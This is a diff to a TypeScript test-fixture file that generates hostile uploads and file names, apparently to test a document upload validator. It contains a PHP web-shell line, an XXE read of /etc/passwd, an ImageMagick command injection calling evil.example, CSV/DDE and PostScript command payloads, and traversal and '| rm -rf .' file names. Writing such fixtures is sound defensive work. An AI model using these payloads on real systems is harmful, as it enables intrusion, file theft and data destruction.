@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib'
+import sharp from 'sharp'
 import {
   aDoc,
   aDocWithMacros,
@@ -29,55 +29,31 @@ const joined = (...parts: (string | Buffer)[]) =>
 const signatures: Record<string, string> = {
   'a program of Windows': 'MZ\x90\x00\x03\x00\x00\x00',
   'a program of Linux': '\x7fELF\x02\x01\x01\x00',
-  'a program of macOS': '\xcf\xfa\xed\xfe\x07\x00\x00\x01',
-  'a Java class': '\xca\xfe\xba\xbe\x00\x00\x00\x34',
   'a WebAssembly module': '\x00asm\x01\x00\x00\x00',
   'a shell script': '#!/bin/sh\ntouch /tmp/x\n',
   'a PHP script': '<?php system($_GET["c"]); ?>',
-  'a server page': '<%@ page import="java.util.*" %>',
-  'a page': '<!doctype html><script>alert(1)</script>',
   'a page after white space': '\n\n  <html><body onload=alert(1)>',
   'a drawing': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
   'XML that reads files':
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
-  'a style sheet of XML': '<?xml-stylesheet href="javascript:alert(1)"?>',
-  'a script': 'alert(1)//',
   'a manifest': 'CACHE MANIFEST\n/',
   'a RAR archive': 'Rar!\x1a\x07\x01\x00',
   'a 7z archive': '7z\xbc\xaf\x27\x1c',
   'a gzip archive': '\x1f\x8b\x08\x00',
-  'a bzip2 archive': 'BZh91AY&SY',
-  'an xz archive': '\xfd7zXZ\x00',
   'a tar archive': `${'a'.repeat(257)}ustar\x0000`,
-  'a cabinet': 'MSCF\x00\x00\x00\x00',
-  'a package of Debian': '!<arch>\ndebian-binary',
-  'a disk image': `${'\x00'.repeat(0x8001)}CD001`,
   PostScript: '%!PS-Adobe-3.0\n(%pipe%id) (w) file',
-  'a Flash film': 'CWS\x0b\x00\x00\x00\x00',
-  'a Windows link': 'L\x00\x00\x00\x01\x14\x02\x00',
   'an Internet shortcut': '[InternetShortcut]\nURL=file://evil.example/x',
-  'a registry file': 'REGEDIT4\r\n',
-  'compiled help': 'ITSF\x03\x00\x00\x00',
   'rich text with an object': '{\\rtf1{\\object\\objocx{\\*\\objdata 0}}}',
   'a message': 'From: a@example.com\r\nContent-Type: text/html\r\n\r\n<script>',
-  'a calendar': 'BEGIN:VCALENDAR\r\n',
   'a table of commas': '=cmd|"/c calc"!A0,1\n',
-  'a bitmap': 'BM\x3a\x00\x00\x00',
   'a TIFF image': 'II*\x00\x08\x00\x00\x00',
-  'an icon': '\x00\x00\x01\x00\x01\x00',
-  'a Photoshop file': '8BPS\x00\x01',
   'a HEIC image': '\x00\x00\x00\x18ftypheic',
   'an AVIF image': '\x00\x00\x00\x18ftypavif',
-  'a JPEG XL image': '\xff\x0a',
   'a script for ImageMagick': 'push graphic-context\nfill "url(https://evil.example/x.png|id)"',
   'a film': '\x1aE\xdf\xa3',
-  'a sound': 'ID3\x03\x00\x00',
-  'a font': 'wOF2\x00\x01\x00\x00',
   'a database': 'SQLite format 3\x00',
-  'a capture': '\xd4\xc3\xb2\xa1',
   'a key': '-----BEGIN PRIVATE KEY-----\n',
   'nothing but zeros': '\x00'.repeat(600),
-  'nothing but ones': '\xff'.repeat(600),
   'half a signature of a PDF': '%PD',
   'a signature of a PDF too late': `${' '.repeat(1_020)}%PDF-1.7\n`,
   'half a signature of a ZIP': 'PK\x03',
@@ -88,24 +64,16 @@ const signatures: Record<string, string> = {
   'GIF of no version': 'GIF88a\x01\x00\x01\x00',
 }
 
+const onePixel = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
+  .png()
+  .toBuffer()
+
 /** Returns a PNG whose header claims the given size. */
 function hugePng(width: number, height: number): Buffer<ArrayBuffer> {
-  const chunk = (kind: string, data: Buffer) => {
-    const length = Buffer.alloc(4)
-    length.writeUInt32BE(data.length)
-    return Buffer.concat([length, text(kind), data, Buffer.alloc(4)])
-  }
-  const header = Buffer.alloc(13)
-  header.writeUInt32BE(width, 0)
-  header.writeUInt32BE(height, 4)
-  header.set([8, 2], 8)
-  const data = deflateSync(Buffer.alloc(1_000))
-  return joined(
-    '\x89PNG\r\n\x1a\n',
-    chunk('IHDR', header),
-    chunk('IDAT', data),
-    chunk('IEND', Buffer.alloc(0)),
-  )
+  const image = Buffer.from(onePixel)
+  image.writeUInt32BE(width, 16)
+  image.writeUInt32BE(height, 20)
+  return image
 }
 
 const extensions = ['pdf', 'docx', 'png']
@@ -126,13 +94,11 @@ export function hostileFiles(): HostileFile[] {
       const name = `file.${extensions[index % extensions.length]}`
       return [`${what} as ${name}`, text(words), name]
     }),
-    ...Object.entries(signatures)
-      .slice(0, 24)
-      .map(([what, words]): [string, Buffer<ArrayBuffer>, string] => [
-        `${what}, long, as cv.docx`,
-        text(words.padEnd(70_000, '\x00')),
-        'cv.docx',
-      ]),
+    [
+      'a program of Windows, long',
+      text(signatures['a program of Windows']!.padEnd(70_000, '\x00')),
+      'cv.docx',
+    ],
     ['nothing', Buffer.alloc(0), 'cv.pdf'],
     ['an archive without content types', aZip(['word/document.xml']), 'cv.docx'],
     ['an archive of content types alone', aZip([content]), 'cv.docx'],
@@ -189,47 +155,29 @@ export function hostileFiles(): HostileFile[] {
 }
 
 const bases = ['cv.pdf', 'x'.repeat(300) + '.pdf', '.pdf', '..pdf', 'a.b.c.pdf', 'CV.PDF']
+/** What stands before a name: ways out of folders, into headers and into shells, and signs that hide or reverse what follows. */
+const starts = [
+  ...String.raw`../ ../../../../../../etc/cron.d/ ..\..\..\windows\ /etc/passwd/ C:\autoexec\ \\evil.example\share\ ....//....//
+  %2e%2e%2f ..%c0%af <script>alert(1)</script> $(touch&x) NUL. a:stream. ~/.ssh/ %s%n {{7*7}} a;b,c=`.split(
+    /\s+/,
+  ),
+  'a\u0000.exe.',
+  'a\r\nContent-Type: text/html\r\n\r\n',
+  'a"; filename="evil.html"; x="',
+  "a'; filename*=UTF-8''evil.html; ",
+  '\u202efdp.exe',
+  'a\u200b',
+  '| rm -rf . ',
+  '=1+1 ',
+  '-rf ',
+  ' ',
+  '\ufeff',
+  'e\u0301\u4f60\u{1f642}',
+]
 
 /** Returns file names with path traversal, header injection, bidirectional controls and the like, all with a PDF extension. */
 export function hostileFileNames(count: number): string[] {
-  const wrap: ((base: string) => string)[] = [
-    (base) => `../${base}`,
-    (base) => `../../../../../../etc/cron.d/${base}`,
-    (base) => `..\\..\\..\\windows\\${base}`,
-    (base) => `/etc/passwd/${base}`,
-    (base) => `C:\\autoexec\\${base}`,
-    (base) => `\\\\evil.example\\share\\${base}`,
-    (base) => `....//....//${base}`,
-    (base) => `%2e%2e%2f${base}`,
-    (base) => `..%c0%af${base}`,
-    (base) => `a\u0000.exe.${base}`,
-    (base) => `a\r\nContent-Type: text/html\r\n\r\n${base}`,
-    (base) => `a"; filename="evil.html"; x="${base}`,
-    (base) => `a'; filename*=UTF-8''evil.html; ${base}`,
-    (base) => `\u202efdp.exe${base}`,
-    (base) => `\u2066${base}`,
-    (base) => `a\u200b${base}`,
-    (base) => `<script>alert(1)</script>${base}`,
-    (base) => `"onerror=alert(1) x="${base}`,
-    (base) => `$(touch x)${base}`,
-    (base) => `\`touch x\`;${base}`,
-    (base) => `| rm -rf . ${base}`,
-    (base) => `=1+1 ${base}`,
-    (base) => `CON ${base}`,
-    (base) => `NUL.${base}`,
-    (base) => `a:stream.${base}`,
-    (base) => `~/.ssh/${base}`,
-    (base) => `-rf ${base}`,
-    (base) => ` ${base}`,
-    (base) => `\ufeff${base}`,
-    (base) => `e\u0301${base}`,
-    (base) => `\u4f60\u597d${base}`,
-    (base) => `\u{1f642}${base}`,
-    (base) => `%s%n${base}`,
-    (base) => `{{7*7}}${base}`,
-    (base) => `a;b,c=${base}`,
-  ]
-  const all = wrap.flatMap((name) => bases.map(name))
+  const all = starts.flatMap((start) => bases.map((base) => start + base))
   const step = Math.max(1, Math.floor(all.length / count))
   return all.filter((_, index) => index % step === 0).slice(0, count)
 }
